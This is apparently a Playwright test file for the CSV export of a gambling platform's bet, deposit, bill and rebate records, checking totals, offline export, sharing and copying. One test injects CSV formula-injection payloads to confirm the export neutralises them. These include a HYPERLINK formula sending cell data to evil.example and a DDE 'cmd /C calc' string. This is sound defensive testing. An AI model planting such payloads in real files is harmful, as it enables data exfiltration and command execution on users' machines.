import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { dayOf, dayStart, timeOfDay } from '../../contract/day.ts';
import { RECORD_STATUS_LABELS } from '../../contract/enums.ts';
import { parseMoney } from '../../contract/money.ts';
import type { BookName } from '../../db/book.ts';
import { readCsv } from '../../src/features/records/export/read-csv.ts';
import { expectAccessible } from '../support/axe.ts';
import { LOST_REQUEST } from '../support/fault-server.ts';
import { changeCall } from '../support/lobby.ts';
import { expect, test } from '../support/record-book.ts';
import {
  everyRecord,
  expectAllKept,
  isDeep,
  openRecords,
  shownRows,
  totalOf,
  type WireRecord,
} from '../support/records.ts';
import { expectToast } from '../support/toasts.ts';

test.use({ history: true });

const MARK = '\uFEFF';
const BETS = '**/api/plat/bet-records';
const sheet = (page: Page) => page.getByRole('dialog', { name: '导出 CSV' });
const saving = (page: Page) => sheet(page).getByRole('button', { name: '保存到下载' });

async function openExport(page: Page): Promise<void> {
  await page.getByRole('button', { name: '导出', exact: true }).click();
  await expect(sheet(page)).toBeVisible();
}

/** Saves the file of the open sheet. */
async function saved(page: Page): Promise<{ name: string; rows: string[][] }> {
  const [download] = await Promise.all([page.waitForEvent('download'), saving(page).click()]);
  const text = await readFile(await download.path(), 'utf8');
  expect(text.startsWith(MARK)).toBe(true);
  return { name: download.suggestedFilename(), rows: readCsv(text.slice(MARK.length)) };
}

/** A column of a file by its heading, without it. */
function column([headings = [], ...rows]: string[][], heading: string): string[] {
  const at = headings.indexOf(heading);
  expect(at, heading).toBeGreaterThanOrEqual(0);
  return rows.map((row) => row[at] ?? '');
}

const sumOf = (amounts: string[]) =>
  amounts.reduce((sum, amount) => sum + parseMoney(amount === '' ? '0' : amount), 0n);

/** The last 30 days of the platform, as the page's filter means them. */
function lately(rows: WireRecord[]): WireRecord[] {
  const from = dayStart(dayOf(Date.now()), -29);
  return rows.filter(({ created_at }) => created_at >= from);
}

test('the file has what is filtered, in order, and adds up to the platform’s numbers', async ({
  page,
  token,
  bets,
}) => {
  await openRecords(page, token, { path: '/betRecords?range=30&status=1&type=5' });
  await expectAllKept(page, 'bets', bets);
  await openExport(page);
  await expect(sheet(page)).not.toContainText('导出的只是本机已有的');
  const { name, rows } = await saved(page);
  const chosen = lately(bets).filter(({ status, game_type }) => status === 1 && game_type === 5);
  expect(chosen.length).toBeGreaterThan(20);
  const days = [dayOf(dayStart(dayOf(Date.now()), -29)), dayOf(Date.now())];
  expect(name).toBe(`投注记录_${days.join('_')}.csv`);
  await expect(sheet(page)).toContainText(`${chosen.length} 条`);
  await expect(sheet(page)).toContainText(
    `投注记录 · ${days.join(' 至 ')} · 电子 · ${RECORD_STATUS_LABELS[1]}`,
  );

  expect(column(rows, '订单号')).toHaveLength(chosen.length);
  expect(new Set(column(rows, '订单号'))).toEqual(
    new Set(chosen.map(({ order_no }) => String(order_no))),
  );
  const times = column(rows, '投注时间');
  expect(times).toEqual(
    chosen
      .map(({ created_at }) => `${dayOf(created_at)} ${timeOfDay(created_at)}`)
      .sort()
      .reverse(),
  );
  expect(sumOf(column(rows, '投注额(USDT)'))).toBe(totalOf(chosen, 'stake'));
  expect(sumOf(column(rows, '派彩(USDT)'))).toBe(totalOf(chosen, 'win'));
  expect(sumOf(column(rows, '输赢(USDT)'))).toBe(totalOf(chosen, 'win') - totalOf(chosen, 'stake'));
});

const BOOK_PAGES: [BookName, string, string, string][] = [
  ['orders', '/rechargeRecords', '充值记录', '金额(USDT)'],
  ['bills', '/transactionRecords', '账变记录', '变动(USDT)'],
  ['bonuses', '/backRecords', '返水记录', '金额(USDT)'],
];
for (const [book, path, title, amount] of BOOK_PAGES) {
  test(`so has the file of the ${book}, also with no signal`, async ({
    page,
    context,
    platform,
    token,
  }) => {
    const all = await everyRecord(platform, token, book);
    await openRecords(page, token, { path: `${path}?range=30` });
    await expectAllKept(page, book, all);
    // What shows the sheet is there from then on.
    await openExport(page);
    await page.keyboard.press('Escape');
    await context.setOffline(true);
    await openExport(page);
    const { name, rows } = await saved(page);
    // Of the orders the page shows deposits first.
    const chosen = lately(all).filter(({ kind = 1 }) => book !== 'orders' || kind === 1);
    expect(name).toMatch(new RegExp(`^${title}_.*\\.csv$`));
    expect(rows).toHaveLength(chosen.length + 1);
    expect(sumOf(column(rows, amount))).toBe(totalOf(chosen, 'amount'));
  });
}

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"领奖")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r\n=1+1',
  '＝1+1',
  '  =1+1',
  '普通;=1+1',
  '龙,"虎"',
  '123456789012345678',
];

test('hostile names stay text, and numbers stay numbers', async ({ page, token }) => {
  await page.route(
    BETS,
    changeCall<{ data: WireRecord[] }>((result) => ({
      ...result,
      data: result.data.map((row, index) => ({
        ...row,
        game_name: HOSTILE[index % HOSTILE.length],
        win: '0',
        order_no: `${900719925474099 + index}`,
      })),
    })),
  );
  await openRecords(page, token, { path: '/betRecords?range=30' });
  await expect(shownRows(page).first()).toBeVisible();
  await openExport(page);
  const { rows } = await saved(page);
  expect(rows.length).toBeGreaterThan(HOSTILE.length);
  const [headings = [], ...records] = rows;
  for (const record of records) {
    expect(record).toHaveLength(headings.length);
    const numbers = record.filter((cell) => /^-?\d+(\.\d+)?$/.test(cell));
    // Stake, win, and what was lost, below zero.
    expect(numbers.length).toBeGreaterThanOrEqual(2);
    for (const cell of record) {
      if (numbers.includes(cell)) continue;
      expect(cell.normalize('NFKC').trimStart()).not.toMatch(/^[=+\-@]/);
      expect(cell).not.toMatch(/;\s*=/);
    }
  }
  expect(column(rows, '输赢(USDT)').some((cell) => /^-\d/.test(cell))).toBe(true);
  for (const cell of column(rows, '订单号')) expect(cell).toMatch(/^\d{15,}\t$/);
  expect(new Set(column(rows, '游戏'))).toContain('龙,"虎"');
});

test('what is not on the device is not in the file, and the sheet says so', async ({
  page,
  line,
  token,
  bets,
}) => {
  line.disturb('/bet-records', (request) => (isDeep(request) ? LOST_REQUEST : undefined));
  await openRecords(page, token, { path: '/betRecords?range=30' });
  await expect(shownRows(page).first()).toBeVisible();
  await openExport(page);
  await expect(sheet(page)).toContainText(/导出的只是本机已有的 \d+ 条/);
  const { rows } = await saved(page);
  expect(rows.length - 1).toBeLessThan(lately(bets).length);
  expect(rows.length).toBeGreaterThan(1);
});

/** Runs before the page: a browser that hands files to other apps. */
function takeShares(how: string) {
  const taken: { name: string; type: string; text: string }[] = [];
  Object.assign(window, { taken });
  Object.assign(navigator, {
    canShare: (data?: ShareData) => data?.files?.length === 1,
    share: async ({ files = [] }: ShareData) => {
      if (how === 'closed') throw new DOMException('closed', 'AbortError');
      if (how === 'broken') throw new DOMException('not now', 'NotAllowedError');
      const [file] = files;
      if (file) taken.push({ name: file.name, type: file.type, text: await file.text() });
    },
  });
}

test.describe('where files can be shared', () => {
  const share = (page: Page) => sheet(page).getByRole('button', { name: '分享或存到其他应用' });

  test('the file goes to another app', async ({ page, token }) => {
    await page.addInitScript(takeShares, 'taken');
    await openRecords(page, token);
    await expect(shownRows(page).first()).toBeVisible();
    await openExport(page);
    await share(page).click();
    const taken = () =>
      page.evaluate(() => (window as unknown as { taken: { name: string; text: string }[] }).taken);
    await expect.poll(async () => (await taken()).length).toBe(1);
    const [file] = await taken();
    expect(file).toMatchObject({ type: 'text/csv' });
    expect(file?.name).toMatch(/^投注记录_.*\.csv$/);
    expect(readCsv(file?.text ?? '').length).toBeGreaterThan(1);
    // Saving stays possible.
    expect((await saved(page)).rows.length).toBeGreaterThan(1);
  });

  test('thinking better of it is no failure', async ({ page, token }) => {
    await page.addInitScript(takeShares, 'closed');
    await openRecords(page, token);
    await openExport(page);
    await share(page).click();
    await expect(saving(page)).toBeVisible();
    await expect(page.getByText('没有分享出去')).toHaveCount(0);
  });

  test('what cannot be shared can be saved', async ({ page, token }) => {
    await page.addInitScript(takeShares, 'broken');
    await openRecords(page, token);
    await openExport(page);
    await share(page).click();
    await expectToast(page, '没有分享出去，请改用保存');
    expect((await saved(page)).rows.length).toBeGreaterThan(1);
  });
});

test('where nothing can be saved, the content can be copied by hand', async ({ page, token }) => {
  await page.addInitScript(() => {
    Object.defineProperty(navigator, 'clipboard', { value: undefined });
    document.execCommand = () => false;
  });
  await openRecords(page, token);
  await openExport(page);
  await expect(saving(page)).toBeVisible();
  await expectAccessible(page, '[role=dialog]');
  await sheet(page).getByRole('button', { name: '保存不了？复制内容' }).click();
  await expect(sheet(page).getByText('浏览器不允许复制')).toBeVisible();
  const selected = await page.evaluate(() => getSelection()?.toString() ?? '');
  expect(selected).toContain('投注时间,订单号,游戏');
  await expectAccessible(page, '[role=dialog]');
});

test('where there is nothing, the sheet says so', async ({ page, token }) => {
  await openRecords(page, token, { path: '/betRecords?range=today&status=3&type=2' });
  await openExport(page);
  await expect(sheet(page)).toContainText('没有可导出的记录');
  await expectAccessible(page, '[role=dialog]');
});
